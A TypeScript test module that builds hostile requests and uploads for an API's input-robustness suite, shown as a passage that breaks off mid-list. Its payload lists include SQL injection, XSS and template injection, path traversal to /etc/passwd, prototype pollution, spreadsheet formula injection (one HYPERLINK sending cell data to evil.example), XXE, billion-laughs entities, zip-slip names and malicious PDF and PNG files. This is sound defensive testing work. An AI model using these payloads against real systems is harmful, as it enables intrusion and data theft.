/**
 * Hostile values and request mutations for the hostile-input suite.
 *
 * A case starts from an endpoint's valid example (test/hostile/endpoints.ts) as a DraftRequest and
 * applies one Payload to it: one field set to a hostile value, or one generic change to the body,
 * the query string, the URL, the method or the headers. Uploads (multipart/form-data bodies and the
 * CSV and XLSX files they carry) are built in files.ts.
 */
import { gzipSync } from 'node:zlib';
import type { EndpointSpec, ExampleFile, FieldKind, FieldLocation, FieldSpec, HttpMethod, JsonValue } from './spec.js';
import { csv, MULTIPART_BOUNDARY, multipartBody, xlsx, sheetRows, zip, type MultipartPart } from './files.js';

const KB = 1024;
const MB = 1024 * KB;
/** Above the server's 1 MiB body limit. */
const OVER_BODY_LIMIT = MB + 64 * KB;

/** A request being built: path and query already percent-encoded, body members as raw JSON text. */
export interface DraftRequest {
  readonly method: string;
  /** Percent-encoded values of the `:name` segments. */
  readonly path: Readonly<Record<string, string>>;
  /** Percent-encoded `name=value` pairs, in order. */
  readonly query: readonly string[];
  /** Members of the JSON object body, each value as raw JSON text; null: no body. */
  readonly members: ReadonlyArray<readonly [string, string]> | null;
  /** Parts of a multipart/form-data body, in order; null: not multipart. Sent instead of the members. */
  readonly parts: readonly MultipartPart[] | null;
  /** A body sent instead of the members or parts (malformed JSON, other formats). */
  readonly rawBody?: string | Uint8Array;
  /**
   * undefined: application/json for members, multipart/form-data with its boundary for parts;
   * null: no Content-Type header at all.
   */
  readonly contentType?: string | null;
  readonly headers: Readonly<Record<string, string>>;
  /** Rewrites the finished path and query (route-level payloads). */
  readonly rewriteUrl?: (url: string) => string;
}

/** Whether a request still carries the valid session of a signed-in case after a payload. */
export type Credential = 'valid' | 'none' | 'unknown';

export interface Payload {
  /** Readable, e.g. 'body.email = <lone surrogate>'. */
  readonly label: string;
  /** `session` is the session token of a signed-in case, null for an anonymous one. */
  readonly apply: (draft: DraftRequest, session: string | null) => DraftRequest;
  /** Default: 'valid' when signed in, 'none' otherwise. */
  readonly credential?: (session: string | null) => Credential;
  /** True when the request must be refused (≥ 400) whatever else happens. */
  readonly mustFail?: (endpoint: EndpointSpec, session: string | null) => boolean;
  /** The request must succeed (2xx): the example as it is. */
  readonly mustSucceed?: boolean;
  /**
   * What it changes is read only past the sign-in check: a field value (which, once valid, reaches
   * the handler) or an uploaded body (which the handler parses). For a session endpoint such a case
   * is always signed in; anonymously it would stop at the check and test nothing.
   */
  readonly pastSignIn?: boolean;
}

/* ------------------------------------------------------------------------------------------------
 * Field values
 * ---------------------------------------------------------------------------------------------- */

/** How a hostile value is written into the request. */
export type FieldValue =
  /** A string: JSON string in a body, percent-encoded in a URL. */
  | { readonly as: 'text'; readonly text: string }
  /** Any JSON value (wrong types); bodies only. */
  | { readonly as: 'json'; readonly json: JsonValue }
  /** Raw JSON text (lone surrogates, `__proto__` keys, numbers JSON.stringify cannot write); bodies only. */
  | { readonly as: 'rawJson'; readonly text: string }
  /** Percent-encoded text put into the URL verbatim (invalid UTF-8, encoded traversal); URLs only. */
  | { readonly as: 'encoded'; readonly text: string }
  /** The field's `name=value` pairs in the query string replaced verbatim (duplicates, brackets). */
  | { readonly as: 'pairs'; readonly text: string }
  /** A whole file (name, media type, bytes); file fields only. */
  | { readonly as: 'file'; readonly file: ExampleFile }
  /** The field left out. */
  | { readonly as: 'omit' };

export interface HostileValue {
  readonly label: string;
  readonly value: FieldValue;
}

const text = (label: string, value: string): HostileValue => ({ label, value: { as: 'text', text: value } });
const json = (label: string, value: JsonValue): HostileValue => ({ label, value: { as: 'json', json: value } });
const rawJson = (label: string, value: string): HostileValue => ({ label, value: { as: 'rawJson', text: value } });
const encoded = (label: string, value: string): HostileValue => ({ label, value: { as: 'encoded', text: value } });

/** Where each way of writing a value can go. */
const LOCATIONS: Record<FieldValue['as'], readonly FieldLocation[]> = {
  // In a file field, a text value becomes one cell of an otherwise clean CSV file (see fileCell).
  text: ['path', 'query', 'body', 'file', 'form'],
  json: ['body'],
  rawJson: ['body'],
  encoded: ['path', 'query'],
  pairs: ['query'],
  file: ['file'],
  omit: ['query', 'body', 'file', 'form'],
};

export const UNICODE_VALUES: readonly HostileValue[] = [
  rawJson('<lone high surrogate>', '"\\ud800"'),
  rawJson('<lone low surrogate inside text>', '"ban\\udfffgli"'),
  encoded('<lone surrogate as UTF-8 bytes %ED%A0%80>', '%ED%A0%80'),
  encoded('<invalid UTF-8 %FF%FE>', '%FF%FE'),
  encoded('<overlong UTF-8 %C0%AF>', '%C0%AF'),
  encoded('<truncated escape %>', '%'),
  encoded('<bad escape %ZZ>', '%ZZ'),
  text('<NUL>', 'ban\u0000gli'),
  text('<only NUL>', '\u0000'),
  text('<control characters>', '\u0001\u0007\u001b[31m\u007f'),
  text('<CRLF and a header>', 'x\r\nSet-Cookie: admin=1'),
  text('<RTL override>', '\u202Eilgnab'),
  text('<zero-width joiner>', 'ban\u200Dgli'),
  text('<zero-width space>', 'ban\u200Bgli'),
  text('<byte order mark>', '\uFEFFbangli'),
  text('<emoji>', '🗳️👩‍👩‍👧‍👦🇮🇩'),
  text('<combining marks>', `Bali${'\u0301\u0336'.repeat(60)}`),
  text('<full-width digits>', '５１'),
  text('<Arabic-Indic digits>', '٥١'),
  text('<Turkish dotless i>', 'ıstana banglı'),
  text('<Turkish dotted capital I>', 'BALİ'),
  text('<NFKD form>', 'Ta\u0301na\u0308 Toraja'),
  text('<compatibility ligature>', 'ﬁ ﬀ ㎏ Ⅻ'),
  text('<noncharacter U+FFFF>', '\uFFFF'),
  text('<astral private use>', '\u{10FFFF}\u{F0000}'),
];

export const SQL_VALUES: readonly HostileValue[] = [
  text("<SQL ' OR 1=1 -->", "' OR 1=1 --"),
  text('<SQL drop table>', "'; drop table regions; --"),
  text("<SQL ' OR ''='>", "' OR ''='"),
  text('<SQL pg_sleep>', "'||pg_sleep(0)||'"),
  text('<LIKE %>', '%'),
  text('<LIKE _>', '_'),
  text('<LIKE %_%>', '%_%'),
  text('<backslashes>', '\\\\\\'),
  text("<backslash quote \\'>", "\\'"),
  text('<dollar quoting $$>', '$$;$1$$'),
  text('<trigram operator <%>', '<% %> <<%'),
];

export const HTML_VALUES: readonly HostileValue[] = [
  text('<script tag>', '<script>alert(1)</script>'),
  text('<img onerror>', '"><img src=x onerror=alert(1)>'),
  text('<javascript: URL>', 'javascript:alert(1)'),
  text('<template injection>', "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}"),
  text('<format string>', '%s%s%s%s%n%x'),
];

export const PROTOTYPE_VALUES: readonly HostileValue[] = [
  text('"__proto__"', '__proto__'),
  text('"constructor"', 'constructor'),
  text('"prototype"', 'prototype'),
  text('"toString"', 'toString'),
  text('"hasOwnProperty"', 'hasOwnProperty'),
  text('<"constructor" as a word>', 'samarinda constructor'),
];

export const TRAVERSAL_VALUES: readonly HostileValue[] = [
  text('<../../etc/passwd>', '../../etc/passwd'),
  text('<..\\..\\windows\\win.ini>', '..\\..\\windows\\win.ini'),
  text('</etc/passwd>', '/etc/passwd'),
  encoded('<..%2F..%2Fetc%2Fpasswd>', '..%2F..%2Fetc%2Fpasswd'),
  encoded('<%2e%2e%2f%2e%2e%2f>', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
  encoded('<double-encoded ..%252F>', '..%252F..%252Fetc%252Fpasswd'),
  encoded('<%00 then .json>', 'x%00.json'),
  encoded('<lone %00>', '%00'),
];

export const SIZE_VALUES: readonly HostileValue[] = [
  text('<empty>', ''),
  text('<spaces>', '   '),
  text('<10 kB string>', 'x'.repeat(10 * KB)),
  text('<100 kB string>', 'y'.repeat(100 * KB)),
];

/** Strings that numbers and words hide behind. */
export const LOOKALIKE_VALUES: readonly HostileValue[] = [
  text('"NaN"', 'NaN'),
  text('"Infinity"', 'Infinity'),
  text('"1e309"', '1e309'),
  text('"null"', 'null'),
  text('"undefined"', 'undefined'),
  text('"true"', 'true'),
  text('"[object Object]"', '[object Object]'),
];

/** Wrong JSON types where a string (or anything) is expected; bodies only. */
export const WRONG_TYPE_VALUES: readonly HostileValue[] = [
  json('<number 0>', 0),
  json('<number -1>', -1),
  json('<number 1.5>', 1.5),
  rawJson('<number 1e309>', '1e309'),
  rawJson('<number -0>', '-0'),
  json('<true>', true),
  json('<false>', false),
  json('<null>', null),
  json('<empty array>', []),
  json('<array of strings>', ['bangli', 'hostile-admin@desk.go.id']),
  json('<empty object>', {}),
  json('<operator object {"$ne": null}>', { $ne: null }),
  json('<object with toString>', { toString: 'x', valueOf: 1 }),
  rawJson('<object with __proto__>', '{"__proto__":{"admin":true,"polluted":"yes"}}'),
  rawJson('<object with constructor.prototype>', '{"constructor":{"prototype":{"admin":true,"polluted":"yes"}}}'),
  json('<array of 10 000 numbers>', Array.from({ length: 10_000 }, (_, i) => i)),
];

const GENERIC_STRING_VALUES: readonly HostileValue[] = [
  ...SIZE_VALUES,
  ...UNICODE_VALUES,
  ...SQL_VALUES,
  ...HTML_VALUES,
  ...PROTOTYPE_VALUES,
  ...TRAVERSAL_VALUES,
  ...LOOKALIKE_VALUES,
];

/** A well-formed address of exactly `length` characters: a 64-character local part, 63-character labels. */
function emailOfLength(length: number): string {
  const local = 'a'.repeat(64);
  let domain = 'go.id';
  while (local.length + 1 + domain.length + 2 <= length) {
    const room = length - (local.length + 1 + domain.length) - 1;
    domain = `${'d'.repeat(Math.min(63, room))}.${domain}`;
  }
  return `${local}@${domain}`;
}

function lengthValues(field: FieldSpec): HostileValue[] {
  if (field.maxLength === undefined) return [];
  const max = field.maxLength;
  if (field.kind === 'email') {
    return [text(`<${max}-char email>`, emailOfLength(max)), text(`<${max + 1}-char email>`, emailOfLength(max + 1))];
  }
  return [text(`<${max} chars, the limit>`, 'a'.repeat(max)), text(`<${max + 1} chars, one over>`, 'a'.repeat(max + 1))];
}

function enumValues(field: FieldSpec): HostileValue[] {
  const first = field.values?.[0] ?? 'x';
  return [
    text('<upper case>', first.toUpperCase()),
    text('<trailing space>', `${first} `),
    text('<two values joined>', (field.values ?? []).join(',')),
    text('<dotless i look-alike>', first.replaceAll('i', 'ı')),
    text('<Cyrillic look-alike>', first.replaceAll('o', 'о').replaceAll('a', 'а')),
    text('<prefix>', first.slice(0, 3)),
  ];
}

/* ------------------------------------------------------------------------------------------------
 * Files (CSV and XLSX uploads)
 * ---------------------------------------------------------------------------------------------- */

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const IMPORT_HEADER = ['agency', 'region', 'name'] as const;
const fileValue = (label: string, filename: string, contentType: string, content: string | Uint8Array): HostileValue => ({
  label, value: { as: 'file', file: { filename, contentType, content } },
});
const csvFile = (label: string, content: string | Uint8Array) => fileValue(label, 'units.csv', 'text/csv', content);
const xlsxFile = (label: string, content: Uint8Array) => fileValue(label, 'units.xlsx', XLSX_TYPE, content);
/** A row that would import cleanly but for its name. */
const unitRow = (name: string): string[] => ['BAWASLU', '51.06', name];
const rowsOf = (count: number, name: (i: number) => string) => Array.from({ length: count }, (_, i) => unitRow(name(i)));
/** Deterministic bytes that are neither text nor any known format. */
const junk = (length: number) => Uint8Array.from({ length }, (_, i) => (i * 131 + 7 + (i >> 8)) & 255);

/** Exactly `bytes` bytes of CSV: a clean header and one row whose name fills the rest. */
function csvOfSize(bytes: number): string {
  const head = `${IMPORT_HEADER.join(',')}\nBAWASLU,51.06,`;
  return `${head}${'n'.repeat(bytes - head.length - 1)}\n`;
}

const FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '=HYPERLINK("http://evil.example/?"&A1,"klik")', '\t=1+1'];

/** Hostile uploads: wrong formats, broken encodings, the size and row limits, formulas, XML attacks. */
/** Outline files (GeoJSON keyed by Kemendagri code): broken JSON, wrong shapes, hostile numbers and keys, sizes at the bound. */
function geojsonValues(field: FieldSpec): HostileValue[] {
  const maxBytes = field.maxLength ?? 25 * MB;
  const geojson = (label: string, content: string | Uint8Array) => fileValue(label, 'batas.geojson', 'application/geo+json', content);
  const ring = [[115.1, -8.5], [115.3, -8.5], [115.3, -8.7], [115.1, -8.7], [115.1, -8.5]];
  const feature = (properties: unknown, geometry: unknown) => ({ type: 'Feature', properties, geometry });
  const collection = (...features: unknown[]) => JSON.stringify({ type: 'FeatureCollection', features });
  const polygon = (coordinates: unknown) => ({ type: 'Polygon', coordinates });
  const clean = collection(feature({ code: '51.06' }, polygon([ring])));
  const circle = (n: number) => [...Array.from({ length: n }, (_, i) => [115 + Math.cos((2 * Math.PI * i) / n), -8 + Math.sin((2 * Math.PI * i) / n)]), [116, -8]];
  const ofSize = (bytes: number) => clean + ' '.repeat(Math.max(0, bytes - Buffer.byteLength(clean)));
  return [
    geojson('<empty file>', ''),
    geojson('<binary junk>', junk(4 * KB)),
    geojson('<truncated JSON>', clean.slice(0, clean.length / 2)),
    geojson('<JSON array>', '[1,2,3]'),
    geojson('<bare geometry>', JSON.stringify(polygon([ring]))),
    geojson('<features not an array>', JSON.stringify({ type: 'FeatureCollection', features: { 0: 1 } })),
    geojson('<no features>', collection()),
    geojson('<2,001 features>', collection(...Array.from({ length: 2_001 }, (_, i) => feature({ code: `51.${i}` }, null)))),
    geojson('<arrays nested 100,000 deep>', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    geojson('<coordinates nested 5,000 deep>', `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"51.06"},"geometry":{"type":"Polygon","coordinates":${'['.repeat(5_000)}1${']'.repeat(5_000)}}}]}`),
    geojson('<numbers beyond double (1e309)>', clean.replace('115.1', '1e309')),
    geojson('<coordinates as strings>', collection(feature({ code: '51.06' }, polygon([ring.map(([x, y]) => [String(x), String(y)])])))),
    geojson('<closed ring of 500,001 positions, one over>', collection(feature({ code: '51.06' }, polygon([circle(500_000)])))),
    geojson('<__proto__ and constructor properties>', `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"__proto__":{"admin":true},"constructor":"x","code":"51.06"},"geometry":${JSON.stringify(polygon([ring]))}}]}`),
    geojson('<code as an object, an array, a boolean>', collection(feature({ code: { a: 1 } }, polygon([ring])), feature({ code: ['51'] }, polygon([ring])), feature({ code: true }, polygon([ring])))),
    geojson('<codes of SQL and path text>', collection(feature({ code: "51' or 1=1 --" }, polygon([ring])), feature({ code: '../../etc/passwd' }, polygon([ring])))),
    geojson('<NUL in a property>', collection(feature({ code: '51.06', name: 'Bang\u0000li' }, polygon([ring])))),
    geojson('<UTF-16 with a byte order mark>', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(clean, 'utf16le')])),
    geojson('<clean, with a byte order mark>', `\uFEFF${clean}`),
    geojson(`<file of exactly ${maxBytes} bytes>`, ofSize(maxBytes)),
    geojson(`<file of ${maxBytes + 1} bytes, one over>`, ofSize(maxBytes + 1)),
    geojson('<PDF>', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    geojson('<gzip of a clean file>', gzipSync(clean)),
  ];
}

function spreadsheetValues(field: FieldSpec): HostileValue[] {
  const maxBytes = field.maxLength ?? 5 * MB;
  const clean = csv([IMPORT_HEADER, unitRow('Panwascam Susut (hostile)')]);
  const cleanXlsx = xlsx({ sheetData: sheetRows([IMPORT_HEADER, unitRow('Panwascam Susut (hostile)')]) });
  const utf16 = (text: string, bigEndian: boolean) => {
    const le = Buffer.from(text, 'utf16le');
    return bigEndian ? Buffer.from(le).swap16() : Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
  };
  return [
    csvFile('<empty file>', ''),
    csvFile('<binary junk>', junk(4 * KB)),
    csvFile('<zip that is no workbook>', zip([{ name: 'readme.txt', content: 'not a workbook' }])),
    csvFile('<zip magic then junk>', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), junk(512)])),
    xlsxFile('<truncated XLSX>', cleanXlsx.subarray(0, Math.floor(cleanXlsx.length / 2))),
    xlsxFile('<XLSX, clean>', cleanXlsx),
    xlsxFile('<XLSX with formula cells>', xlsx({
      sheetData: sheetRows([IMPORT_HEADER, ...FORMULAS.map((formula, i) => ['KPU', '51.06', { formula: formula.replace(/^[\t=@+-]+/, ''), cached: `Unit ${i}` }])]),
    })),
    xlsxFile('<XLSX with formula text in cells>', xlsx({ sheetData: sheetRows([IMPORT_HEADER, ...FORMULAS.map((formula) => unitRow(formula))]) })),
    xlsxFile('<XLSX of 10,001 rows>', xlsx({ sheetData: sheetRows([IMPORT_HEADER, ...rowsOf(10_001, (i) => `Unit ${i}`)]) })),
    xlsxFile('<XLSX without a workbook part>', xlsx({ withoutWorkbook: true, sheetData: sheetRows([IMPORT_HEADER]) })),
    xlsxFile('<XLSX with an external entity (XXE)>', xlsx({
      doctype: '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="inlineStr"><is><t>KPU</t></is></c><c r="B2" t="inlineStr"><is><t>51.06</t></is></c><c r="C2" t="inlineStr"><is><t>&xxe;</t></is></c></row>`,
    })),
    xlsxFile('<XLSX with nested entities (billion laughs)>', xlsx({
      doctype: `<!DOCTYPE worksheet [<!ENTITY a "${'a'.repeat(10)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`,
      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="inlineStr"><is><t>&j;</t></is></c></row>`,
    })),
    xlsxFile('<XLSX whose sheet inflates to 32 MiB>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}${' '.repeat(32 * MB)}` })),
    xlsxFile('<XLSX with a cell at XFD1048576>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>` })),
    xlsxFile('<XLSX with a shared string that is not there>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="s"><v>999999</v></c></row>` })),
    xlsxFile('<XLSX with numbers and booleans for codes>', xlsx({
      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="b"><v>1</v></c><c r="B2"><v>51.06</v></c><c r="C2"><v>1e309</v></c></row>`,
    })),
    xlsxFile('<XLSX with zip-slip entry names and a macro part>', xlsx({
      sheetData: sheetRows([IMPORT_HEADER, unitRow('Panwascam Kintamani (hostile)')]),
      extra: [
        { name: '../../../../tmp/sinergi-hostile.txt', content: 'zip slip' },
        { name: '/etc/sinergi-hostile', content: 'absolute' },
        { name: 'xl/vbaProject.bin', content: junk(256) },
      ],
    })),
    xlsxFile('<XLSX with __proto__ and constructor headers>', xlsx({
      sheetData: sheetRows([['__proto__', 'constructor', ...IMPORT_HEADER], ['{"admin":true}', 'x', ...unitRow('Proto unit')]]),
    })),
    csvFile('<CSV with formula cells>', csv([IMPORT_HEADER, ...FORMULAS.map((formula) => unitRow(formula))])),
    csvFile('<CSV of 10,000 rows, the limit>', csv([IMPORT_HEADER, ...rowsOf(10_000, (i) => `Unit ${i}`)])),
    csvFile('<CSV of 10,001 rows, one over>', csv([IMPORT_HEADER, ...rowsOf(10_001, (i) => `Unit ${i}`)])),
    csvFile('<CSV in UTF-16 LE with a byte order mark>', utf16(clean, false)),
    csvFile('<CSV in UTF-16 BE without a byte order mark>', utf16(clean, true)),
    csvFile('<CSV in Latin-1>', Buffer.from(csv([IMPORT_HEADER, unitRow('Kantor Dénpasar – Sélatan')]), 'latin1')),
    csvFile('<CSV with a lone surrogate as UTF-8 bytes>', Buffer.concat([Buffer.from(`${IMPORT_HEADER.join(',')}\nKPU,51.06,ab`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('\n')])),
    csvFile('<CSV with a NUL byte in a cell>', csv([IMPORT_HEADER, unitRow('Bang\u0000li')])),
    csvFile('<CSV with an unclosed quote>', `${IMPORT_HEADER.join(',')}\nKPU,51.06,"never closed\n`),
    csvFile('<CSV with the header only>', `${IMPORT_HEADER.join(',')}\n`),
    csvFile('<CSV of a byte order mark only>', '\uFEFF'),
    csvFile('<CSV of blank lines only>', '\n\r\n\n   \n'),
    csvFile('<CSV without the name column>', 'agency,region\nKPU,51.06\n'),
    csvFile('<CSV with __proto__ and constructor columns>', csv([['__proto__', 'constructor', 'prototype', ...IMPORT_HEADER], ['admin', 'x', 'y', ...unitRow('Proto unit')]])),
    csvFile('<CSV with 10,000 columns>', csv([[...IMPORT_HEADER, ...Array.from({ length: 9_997 }, (_, i) => `c${i}`)], unitRow('Wide unit')])),
    csvFile('<CSV with one 4 MiB cell>', csv([IMPORT_HEADER, unitRow('w'.repeat(4 * MB))])),
    csvFile('<CSV with CR line endings>', csv([IMPORT_HEADER, unitRow('Carriage unit')]).replaceAll('\n', '\r')),
    csvFile('<CSV with semicolons and commas in cells>', 'agency;region;name\nKPU;51.06;"Unit, with; both"\nKPU;51,06;x\n'),
    csvFile('<CSV with ragged rows>', `${IMPORT_HEADER.join(',')}\nKPU\nKPU,51.06,Ragged unit,extra,extra\n,,\n`),
    csvFile('<CSV of 1,000 duplicate rows>', csv([IMPORT_HEADER, ...rowsOf(1_000, () => 'Same unit')])),
    csvFile('<CSV with regions outside the gazetteer>', csv([IMPORT_HEADER, ['KPU', '99.99', 'x'], ['KPU', '00', 'y'], ['KPU', '51..06', 'z'], ['KPU', '51.06.01.2001.1', 'w']])),
    csvFile('<CSV with multi-line quoted cells>', csv([IMPORT_HEADER, unitRow('line one\nline two\r\nline "three"')])),
    csvFile(`<file of exactly ${maxBytes} bytes>`, csvOfSize(maxBytes)),
    csvFile(`<file of ${maxBytes + 1} bytes, one over>`, csvOfSize(maxBytes + 1)),
    csvFile('<PDF>', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    csvFile('<PNG>', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), junk(256)])),
    csvFile('<gzip of a clean CSV>', gzipSync(clean)),
    csvFile('<old XLS (OLE2) header>', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), junk(512)])),
    csvFile('<Windows executable>', Buffer.concat([Buffer.from('MZ'), junk(510)])),
    csvFile('<HTML page>', '<!doctype html><html><body><script>alert(1)</script></body></html>'),
    fileValue('<XLSX bytes named units.csv>', 'units.csv', 'text/csv', cleanXlsx),
    fileValue('<CSV bytes named units.xlsx>', 'units.xlsx', XLSX_TYPE, clean),
  ];
}

/**
 * A text value in a file field: one cell of an otherwise clean CSV file, in the agency, region or
 * name column by turns, so that the hostile strings reach the row checks.
 */
function fileCell(hostile: HostileValue, index: number): HostileValue {
  if (hostile.value.as !== 'text') return hostile;
  const column = index % IMPORT_HEADER.length;
  const cells = unitRow('Panwascam Tembuku (hostile)');
  cells[column] = hostile.value.text;
  return csvFile(`${IMPORT_HEADER[column]} cell ${hostile.label}`, csv([IMPORT_HEADER, cells]));
}

/* ------------------------------------------------------------------------------------------------
 * Uploaded documents and images (PDF, PNG, JPEG), typed by the server by their first bytes
 * ---------------------------------------------------------------------------------------------- */

const bytes = (...parts: (string | Uint8Array | number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
/** A 1 × 1 transparent PNG, a 1 × 1 JPEG and an empty PDF (fixtures store them too). */
export const TINY_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
export const TINY_JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);
export const TINY_PDF = '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';
/** A PNG whose header claims 100,000 × 100,000 pixels (a decompression bomb for whoever decodes it). */
const HUGE_PNG_HEADER = bytes(PNG_SIGNATURE, [0, 0, 0, 13], 'IHDR', [0, 1, 0x86, 0xa0, 0, 1, 0x86, 0xa0, 8, 6, 0, 0, 0], [0, 0, 0, 0]);

function uploadValues(field: FieldSpec): HostileValue[] {
  const max = field.maxLength ?? MB;
  const file = (label: string, filename: string, contentType: string, content: string | Uint8Array) => fileValue(label, filename, contentType, content);
  const pngOf = (size: number) => bytes(PNG_SIGNATURE, new Uint8Array(size - PNG_SIGNATURE.length));
  return [
    file('<empty file>', 'scan.pdf', 'application/pdf', ''),
    file('<one byte>', 'logo.png', 'image/png', bytes([0x89])),
    file('<PNG signature only>', 'logo.png', 'image/png', bytes(PNG_SIGNATURE)),
    file('<JPEG start only>', 'foto.jpg', 'image/jpeg', bytes([0xff, 0xd8, 0xff])),
    file('<"%PDF-" only>', 'scan.pdf', 'application/pdf', '%PDF-'),
    file('<PNG signature, then junk>', 'logo.png', 'image/png', bytes(PNG_SIGNATURE, junk(4096))),
    file('<PNG claiming 100 000 × 100 000 pixels>', 'logo.png', 'image/png', HUGE_PNG_HEADER),
    file('<PNG with a script after its end>', 'logo.png', 'image/png', bytes(TINY_PNG, '<script>alert(1)</script>')),
    file('<PDF with JavaScript>', 'scan.pdf', 'application/pdf', TINY_PDF.replace('/Pages 2 0 R', '/Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >>')),
    file('<valid PDF named .png>', 'logo.png', 'image/png', TINY_PDF),
    file('<valid JPEG sent as text/plain>', 'foto.txt', 'text/plain', TINY_JPEG),
    file('<HTML named .png>', 'logo.png', 'image/png', '<html><body><script>alert(1)</script></body></html>'),
    file('<SVG with a script>', 'logo.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    file('<GIF>', 'logo.gif', 'image/gif', bytes('GIF89a', [1, 0, 1, 0, 0, 0, 0], ';')),
    file('<Windows executable named .pdf>', 'scan.pdf', 'application/pdf', bytes('MZ', [0x90, 0, 3, 0], junk(256))),
    file('<ZIP named .pdf>', 'scan.pdf', 'application/pdf', zip([{ name: 'readme.txt', content: 'x' }])),
    file('<CSV>', 'data.csv', 'text/csv', 'a,b\n=1+1,2\n'),
    file(`<${max} bytes, the limit>`, 'besar.png', 'image/png', pngOf(max)),
    file(`<${max + 1} bytes, one over>`, 'besar.png', 'image/png', pngOf(max + 1)),
  ];
}

const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
  regionCode: () => [
    text('<trailing dot>', '51.06.'),
    text('<double dot>', '51..06'),
    text('<one-digit part>', '51.6'),
    text('<no dots>', '5106'),
    text('<zero code 00>', '00'),
    text('<zero regency 51.00>', '51.00'),
    text('<unknown but well-formed>', '99.99.99.9999'),
    text('<five parts>', '51.06.01.2001.1'),
    text('<full-width 51.06>', '５１．０６'),
    text('<trailing newline>', '51.06\n'),
    text('<leading space>', ' 51.06'),
    text('<regex wildcard 5.>', '5.'),
    encoded('<51.06%00>', '51.06%00'),
    encoded('<51%2E06>', '51%2E06'),
  ],
  identifier: (field) => [
    text('<upper case>', 'PILKADA-2024'),
    text('<trailing space>', 'pilkada-2024 '),
    text('<dot>', '.'),
    text('<dot dot>', '..'),
    text('<LIKE wildcard pilkada%>', 'pilkada%'),
    text('<slash inside>', 'pilkada/2024'),
    encoded('<pilkada-2024%00>', 'pilkada-2024%00'),
    encoded('<pilkada-2024%00 and more>', 'pilkada-2024%00.json'),
    ...lengthValues(field),
  ],
  text: (field) => [
    text('<kind word only "Kab.">', 'Kab.'),
    text('<province short form only>', 'Kaltim'),
    text('<only punctuation>', '.,;:!?-()[]{}'),
    text('<many words>', Array.from({ length: 50 }, (_, i) => `w${i}`).join(' ')),
    ...lengthValues(field),
  ],
  int: (field) => (field.in === 'body' ? intBodyValues(field) : [
    text('<-1>', '-1'),
    text('<0>', '0'),
    text('<1.5>', '1.5'),
    text('<1e3>', '1e3'),
    text('<1e-7>', '1e-7'),
    text('<20 digits>', '99999999999999999999'),
    text('<2^53 + 1>', '9007199254740993'),
    text('<-0>', '-0'),
    text('<0x10>', '0x10'),
    text('<0b11>', '0b11'),
    text('< 7 with spaces>', ' 7 '),
    text('<+7>', '+7'),
    text('<1,000>', '1,000'),
    text('<full-width ５>', '５'),
    text('<Devanagari २>', '२'),
    text('<leading zeros>', '0000000000007'),
    text('<2^31 - 1>', String(INT4_MAX)),
    text('<2^31, past a PostgreSQL integer>', String(INT4_MAX + 1)),
    ...(field.max !== undefined ? [text('<max + 1>', String(field.max + 1))] : []),
    ...(field.min !== undefined ? [text('<min - 1>', String(field.min - 1))] : []),
  ]),
  enum: enumValues,
  email: (field) => [
    text('<no domain>', 'admin@'),
    text('<no local part>', '@desk.go.id'),
    text('<no at sign>', 'admin.desk.go.id'),
    text('<two at signs>', 'admin@desk@go.id'),
    text('<upper case>', 'HOSTILE-ADMIN@DESK.GO.ID'),
    text('<surrounding spaces>', '  hostile-admin@desk.go.id  '),
    text('<quoted local part>', '"admin\'--"@desk.go.id'),
    text('<IP literal domain>', 'admin@[127.0.0.1]'),
    text('<unicode domain>', 'admin@désk.go.id'),
    text('<Turkish İ in local part>', 'hostİle-admin@desk.go.id'),
